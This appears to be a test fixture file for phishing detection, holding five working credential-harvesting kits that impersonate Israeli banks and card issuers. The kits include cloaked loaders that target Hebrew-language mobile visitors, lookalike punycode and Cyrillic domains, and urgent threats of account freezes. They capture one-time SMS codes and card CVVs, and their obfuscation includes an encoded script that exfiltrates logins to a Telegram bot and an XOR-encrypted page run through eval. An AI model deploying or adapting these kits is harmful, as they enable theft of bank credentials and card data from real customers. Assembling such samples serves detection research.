import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsonRoute, jsRoute } from '../parts/e-bin.js';
import { BOT_GATE, FAVICON_SVG, FONT_HE, LOGO, LUHN_JS, NO_INSPECT, TZ_JS, b64, chunks, codes, doc, telegramDrop, xorB64, xorDecoderJs } from '../parts/yu-kit.js';

// Credential kits for Israeli banks and card issuers, as they arrive by SMS: Hebrew, right-to-left,
// multi-step (login, SMS code, card), posting to a PHP drop, a Telegram bot or an Apps Script.

export const entries: Entry[] = [
{
  id: 'yu-mizrahi-tefahot-cloaked-loader',
  label: 'phishing',
  kind: 'il-bank-cloaked-kit',
  url: 'https://mizrahi-tefahot.co-il.click/',
  body: `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Site under construction</title>
<style>body{font-family:Arial;background:#fafafa;color:#888;text-align:center;padding-top:15%}</style></head>
<body><h3 id="m">This site is under construction</h3>
<script>
${BOT_GATE}
(function(){var tz="";try{tz=Intl.DateTimeFormat().resolvedOptions().timeZone}catch(e){}
var heb=(navigator.language||"").toLowerCase().indexOf("he")===0||tz==="Asia/Jerusalem";
var mob=/Android|iPhone|iPad/i.test(navigator.userAgent);
if(_isBot()||!heb||!mob)return;
fetch("/mt/s_4417.html",{credentials:"same-origin"}).then(function(r){return r.text()}).then(function(h){document.open();document.write(h);document.close()});})();
</script></body></html>`,
  routes: {
    'mizrahi-tefahot.co-il.click/mt/s_4417.html': htmlRoute(
      doc({
        title: 'מזרחי טפחות - כניסה לחשבון',
        lang: 'he',
        css: `body{margin:0;font-family:${FONT_HE};background:#fff}
.hd{background:#5a2d82;color:#fff;padding:14px 18px;display:flex;align-items:center;gap:10px}.hd svg text{fill:#fff}
.wrap{padding:22px}h1{font-size:21px;color:#5a2d82}input{display:block;width:100%;box-sizing:border-box;border:0;border-bottom:2px solid #ccc;padding:12px 4px;font-size:17px;margin-bottom:16px}
input:focus{outline:0;border-color:#f7941d}.go{background:#f7941d;color:#fff;border:0;width:100%;padding:14px;border-radius:30px;font-size:18px}`,
        body: `<div class="hd">${LOGO.mizrahi}</div>
<div class="wrap"><h1>כניסה לחשבון</h1>
<form id="mf" action="/mt/proc.php" method="post">
<input name="u" placeholder="קוד משתמש" required><input name="p" type="password" placeholder="סיסמה" required>
<input name="m" type="tel" placeholder="מספר טלפון נייד" required>
<button class="go">המשך</button></form>
<p style="font-size:12px;color:#777">מטעמי אבטחה, חשבונך יוקפא אם לא תבוצע הזדהות עד סוף היום.</p></div>`,
      }),
    ),
    'mizrahi-tefahot.co-il.click/mt/proc.php': redirectRoute(302, 'https://mizrahi-tefahot.co-il.click/mt/otp_4417.html'),
    'mizrahi-tefahot.co-il.click/mt/otp_4417.html': htmlRoute(
      doc({
        title: 'מזרחי טפחות - אימות',
        lang: 'he',
        css: `body{font-family:${FONT_HE};padding:22px}input{width:100%;padding:12px;font-size:20px;letter-spacing:8px;text-align:center}button{margin-top:14px;width:100%;padding:13px;background:#f7941d;color:#fff;border:0;border-radius:30px}`,
        body: `${LOGO.mizrahi}<h2>הזינו את הקוד שקיבלתם ב-SMS</h2><form action="/mt/proc2.php" method="post"><input name="otp" maxlength="6" inputmode="numeric"><button>אישור</button></form>`,
      }),
    ),
  },
},
{
  id: 'yu-fibi-russian-language-kit',
  label: 'phishing',
  kind: 'il-bank-credential-kit',
  url: 'https://fibi-online.bank-il-ru.xyz/ru/login/',
  body: doc({
    title: 'Первый международный банк — Вход в личный кабинет',
    lang: 'ru',
    css: `body{font-family:Arial,sans-serif;background:#eef2f7;margin:0}
.b{width:380px;margin:50px auto;background:#fff;padding:28px;border-top:5px solid #004b87}
h1{font-size:20px;color:#004b87}input,select{width:100%;padding:10px;margin:6px 0 14px;border:1px solid #a9b7c6;box-sizing:border-box}
.b button{width:100%;padding:12px;background:#004b87;color:#fff;border:0;font-size:16px}.lng{text-align:left;font-size:12px}`,
    body: `<div class="b"><div class="lng"><a href="#">עברית</a> | <b>Русский</b> | <a href="#">English</a></div>
${LOGO.fibi}
<h1>Вход в личный кабинет</h1>
<p style="font-size:13px;color:#444">Уважаемый клиент! В связи с обновлением системы безопасности Банка Израиля необходимо подтвердить ваши данные. Без подтверждения доступ к счёту будет ограничен.</p>
<form id="rf">
<label>Номер удостоверения личности (теудат зеут)</label><input name="tz" maxlength="9" required>
<label>Пароль</label><input name="pw" type="password" required>
<label>Номер мобильного телефона</label><input name="ph" type="tel" placeholder="05X-XXXXXXX" required>
<button>Войти</button></form>
<div id="ok" style="display:none"><label>Введите код из SMS</label><input id="sms" maxlength="6"><button id="sb">Подтвердить</button></div></div>
<script>
var rf=document.getElementById("rf");
rf.onsubmit=function(e){e.preventDefault();var x=new XMLHttpRequest();x.open("POST","post.php",true);x.setRequestHeader("Content-Type","application/x-www-form-urlencoded");
x.send(new URLSearchParams(new FormData(rf)).toString()+"&lang=ru&b=fibi");x.onloadend=function(){rf.style.display="none";document.getElementById("ok").style.display="block"}};
document.getElementById("sb").onclick=function(){var x=new XMLHttpRequest();x.open("POST","post.php",true);x.setRequestHeader("Content-Type","application/x-www-form-urlencoded");x.send("sms="+encodeURIComponent(document.getElementById("sms").value));x.onloadend=function(){location="https://www.fibi.co.il/private/"}};
</script>`,
  }),
  routes: { 'fibi-online.bank-il-ru.xyz/ru/login/post.php': jsonRoute({ status: 'ok' }) },
},
{
  id: 'yu-hapoalim-punycode-shortlink-chain',
  label: 'phishing',
  kind: 'il-bank-lookalike-kit',
  url: 'https://sms-il.link/Hp7xQ2',
  routes: {
    'sms-il.link/Hp7xQ2': redirectRoute(302, 'https://track.clk-il-notify.com/r?u=hp&c=7xQ2'),
    'track.clk-il-notify.com/r': redirectRoute(302, 'https://xn--5dbgdqohqsq2a.com/app/verify'),
    'xn--5dbgdqohqsq2a.com/app/verify': htmlRoute(
      doc({
        title: 'Poalim | אימות אפליקציה',
        lang: 'he',
        css: `body{margin:0;font-family:${FONT_HE};background:#1d1d1f;color:#fff}
.app{max-width:400px;margin:0 auto;min-height:100vh;background:linear-gradient(160deg,#e30613,#8c0010);padding:30px 22px;box-sizing:border-box}
.app svg text{fill:#fff}.pane{background:#fff;color:#222;border-radius:18px;padding:22px;margin-top:30px}
input{width:100%;box-sizing:border-box;border:1px solid #ddd;border-radius:10px;padding:13px;margin:7px 0;font-size:16px}
button{width:100%;border:0;border-radius:10px;padding:14px;background:#e30613;color:#fff;font-size:17px;margin-top:8px}`,
        body: `<div class="app">${LOGO.hapoalim}<h2>האפליקציה שלך דורשת אימות מחדש</h2>
<p>בעקבות עדכון גרסה, יש לאמת את פרטי הכניסה כדי להמשיך להשתמש בשירותי Poalim ו-bit.</p>
<div class="pane"><form id="v"><input name="uc" placeholder="קוד משתמש" required><input name="pw" type="password" placeholder="סיסמה" required>
<input name="ph" type="tel" placeholder="טלפון נייד" required><button>אימות</button></form></div></div>
<script src="/app/js/runtime.8f1c.js"></script>`,
      }),
    ),
    'xn--5dbgdqohqsq2a.com/app/js/runtime.8f1c.js': jsRoute(
      `(function(){var _k=${JSON.stringify(['7511', '963804:AAG', 'w1pXc_rT9eK', 'vLm0s2ZyQh', 'Ud8aNf4o3J'])};var _c=String.fromCharCode(${codes('-1001984432170')});
var _h=atob("${b64('https://api.telegram.org/bot')}");
document.getElementById("v").addEventListener("submit",function(e){e.preventDefault();var d=new FormData(this),m="🏦 POALIM\\n";d.forEach(function(v,k){m+=k+": "+v+"\\n"});
fetch(_h+_k.join("")+"/sendMessage?chat_id="+encodeURIComponent(_c)+"&text="+encodeURIComponent(m)).finally(function(){location.replace("https://www.bankhapoalim.co.il/")})});})();`,
    ),
  },
},
{
  id: 'yu-max-card-xor-encrypted-kit',
  label: 'phishing',
  kind: 'il-card-issuer-kit',
  url: 'https://max-co-il.account-update.site/login/?from=sms&id=33a9',
  body: (() => {
    const kit = `<div style="max-width:420px;margin:40px auto;font-family:${FONT_HE};background:#fff;border-radius:12px;padding:26px;box-shadow:0 6px 24px rgba(0,0,0,.12)">
<div style="font:700 32px Arial;color:#ff5a1f">max</div>
<h2 style="margin:10px 0">אזור אישי - עדכון פרטים</h2>
<p style="font-size:14px;color:#555">לא הצלחנו לחייב את כרטיסך עבור דמי כרטיס חודשיים. כדי למנוע חסימת הכרטיס, אנא עדכנו פרטים.</p>
<form id="mx"><input name="tz" placeholder="ת.ז." style="width:100%;padding:11px;margin:6px 0">
<input name="card" placeholder="מספר כרטיס" style="width:100%;padding:11px;margin:6px 0">
<input name="exp" placeholder="תוקף MM/YY" style="width:48%;padding:11px;margin:6px 0"> <input name="cvv" placeholder="CVV" style="width:48%;padding:11px;margin:6px 0">
<input name="pass" type="password" placeholder="סיסמה לאזור האישי" style="width:100%;padding:11px;margin:6px 0">
<button style="width:100%;padding:13px;background:#ff5a1f;color:#fff;border:0;border-radius:8px;font-size:16px">עדכון</button></form></div>`;
    const js = `document.getElementById("mx").onsubmit=function(e){e.preventDefault();fetch("/login/xx_send.php",{method:"POST",headers:{"Content-Type":"application/x-www-form-urlencoded"},body:new URLSearchParams(new FormData(this))}).then(function(){location.href="https://www.max.co.il"})}`;
    return `<!DOCTYPE html><html lang="he" dir="rtl"><head><meta charset="utf-8"><title>max</title><meta name="robots" content="noindex"></head><body style="background:#f3f3f3;margin:0"><div id="root"></div>
<script>${xorDecoderJs('_q')}
var _a="${xorB64(kit, 'k3y!max')}",_b="${xorB64(js, 'k3y!max')}";
document.getElementById("root").innerHTML=_q(_a,"k3y!max");(0,eval)(_q(_b,"k3y!max"));
</script></body></html>`;
  })(),
  routes: { 'max-co-il.account-update.site/login/xx_send.php': jsonRoute({ ok: true }) },
},
{
  id: 'yu-leumi-cyrillic-lookalike-json-api',
  label: 'phishing',
  kind: 'il-bank-lookalike-kit',
  url: 'https://xn--lumi-online-okj.com/he/mobile/',
  submittedUrl: 'https://lеumi-online.com/he/mobile/',
  body: doc({
    title: 'Leumi',
    lang: 'he',
    head: `<meta name="theme-color" content="#0069b4">`,
    css: `body{margin:0;font-family:${FONT_HE};background:#0069b4;color:#fff;min-height:100vh}
.in{padding:40px 24px}.in svg circle{fill:#fff}.in svg text{fill:#fff}.in svg path{stroke:#0069b4}
.fld{background:rgba(255,255,255,.12);border-radius:8px;margin:10px 0}.fld input{background:transparent;border:0;color:#fff;padding:15px;width:100%;font-size:17px;box-sizing:border-box}
.fld input::placeholder{color:#cfe2f3}#go{width:100%;margin-top:20px;background:#fff;color:#0069b4;border:0;border-radius:26px;padding:14px;font-size:17px;font-weight:700}`,
    body: `<div class="in">${LOGO.leumi}<h1 style="font-weight:400">שלום, טוב לראות אותך</h1>
<div class="fld"><input id="a" placeholder="שם משתמש"></div><div class="fld"><input id="b" type="password" placeholder="סיסמה"></div>
<button id="go">כניסה</button><p id="s" style="font-size:13px"></p></div>
<script>
var ep=[${codes('/he/mobile/api/v2/')}].map(function(c){return String.fromCharCode(c)}).join("")+"session";
document.getElementById("go").onclick=function(){var body={u:document.getElementById("a").value,p:document.getElementById("b").value,dev:screen.width+"x"+screen.height,ts:Date.now()};
fetch(ep,{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify(body)}).then(function(r){return r.json()}).then(function(j){if(j.next)location.href=j.next;else document.getElementById("s").textContent="שגיאה, נסה שוב"})};
</script>`,
  }),
  routes: {
    'xn--lumi-online-okj.com/he/mobile/api/v2/session': jsonRoute({ next: '/he/mobile/otp?sid=4f1e' }),
    'xn--lumi-online-okj.com/he/mobile/otp': htmlRoute(
      doc({
        title: 'Leumi',
        lang: 'he',
        css: `body{font-family:${FONT_HE};background:#0069b4;color:#fff;padding:40px 24px}input{width:100%;padding:14px;font-size:22px;text-align:center}`,
        body: `<h2>הזינו את הקוד שנשלח אליכם</h2><form method="post" action="/he/mobile/api/v2/otp"><input name="code" maxlength="6" inputmode="numeric"><button style="margin-top:14px;width:100%;padding:14px">אישור</button></form>`,
      }),
    ),
  },
},
];
